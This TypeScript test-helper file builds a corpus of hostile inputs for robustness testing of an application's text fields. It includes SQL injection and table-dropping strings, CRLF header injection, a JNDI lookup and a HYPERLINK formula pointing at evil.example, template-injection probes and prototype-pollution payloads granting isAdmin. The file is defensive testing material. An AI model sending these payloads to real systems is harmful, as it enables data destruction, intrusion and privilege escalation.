/** Texts for every place where people, publishers and addresses put text, and the places of an input. */
import { isFull, SEED } from "./depth";
import { HOSTILE } from "./hostile-text";

/** What somebody tries on the database, the log, a header, the memory, or the language itself. */
export const CORPUS: readonly string[] = [
  ...HOSTILE,
  `' OR '1'='1' --`,
  `"; DROP TABLE "user"; --`,
  `1); DELETE FROM audit_log; /*`,
  `$$; DROP TABLE token; $$ \\'; --`,
  `%_\\`,
  `weir\r\nSet-Cookie: weir_session=1\r\n\r\n<html>`,
  `http://evil.example/\r\nLocation: http://evil.example`,
  `\${jndi:ldap://evil.example/a} {{7*7}} <%= 7*7 %> {pipeline}`,
  `=HYPERLINK("http://evil.example")`,
  `NUL\u0000in the middle`,
  `a first half \uD800 alone`,
  `\uDC00\uD800`,
  `\u202Egnp.exe\u2066\u2069`,
  `constructor`,
  `hasOwnProperty`,
  ``,
  ` \t `,
  "x".repeat(1 << 20),
];

/** For verbs that hash a password, which takes a tenth of a second by intention: one text of each sort. */
export const FEW: readonly string[] = CORPUS.filter((text) => /DROP TABLE "user"|NUL|half/.test(text));

const isTurn = (n: number): boolean => isFull || (SEED + n) % 2 === 0;

/** Every other one of these texts: in the next turn, and in every second run, the others. @param turn a whole number */
export const everyOther = (texts: readonly string[], turn: number): readonly string[] =>
  texts.filter((_, i) => isTurn(turn + i));

/** What one database may take otherwise than another. */
const FOR_DATABASES = /DROP TABLE|DELETE FROM|OR '1'='1'|^%_|NUL|half|\p{Cs}|^\s*$/u;

/** The same, beside those that a database itself might stumble over, which are always tried. */
export const inTurn = (texts: readonly string[], turn: number): readonly string[] =>
  texts.filter((text, i) => FOR_DATABASES.test(text) || isTurn(turn + i));

export type Place = readonly (string | number)[];

/** Where texts are. */
export function placesOfText(value: unknown, at: Place = []): Place[] {
  if (typeof value === "string") return [at];
  return entriesOf(value).flatMap(([key, member]) => placesOfText(member, [...at, key]));
}

/** Where objects are, which could be given a member more. */
export function placesOfObjects(value: unknown, at: Place = []): Place[] {
  const own = typeof value === "object" && value !== null && !Array.isArray(value) ? [at] : [];
  return [...own, ...entriesOf(value).flatMap(([key, member]) => placesOfObjects(member, [...at, key]))];
}

export const valueAt = (value: unknown, place: Place): unknown =>
  place.reduce<unknown>((inside, key) => (inside as Record<string | number, unknown>)[key], value);

/** A copy of `value` in which `change` was made of what is there. */
export function changedAt<T>(value: T, [key, ...rest]: Place, change: (there: unknown) => unknown): T {
  if (key === undefined) return change(value) as T;
  const copy = (Array.isArray(value) ? [...(value as unknown[])] : { ...value }) as Record<string | number, unknown>;
  copy[key] = changedAt(copy[key], rest, change);
  return copy as T;
}

/** The members that reach for what every object has, as JSON brings them. */
export const withMembersOfAll = (object: unknown): unknown[] =>
  [`"__proto__":{"isAdmin":true}`, `"constructor":{"prototype":{"isAdmin":true}}`].map((member) => {
    const text = JSON.stringify(object);
    return JSON.parse(`${text.slice(0, -1)}${text === "{}" ? "" : ","}${member}}`) as unknown;
  });

const entriesOf = (value: unknown): [string | number, unknown][] =>
  Array.isArray(value)
    ? value.map((member: unknown, i) => [i, member])
    : typeof value === "object" && value !== null
      ? Object.entries(value)
      : [];
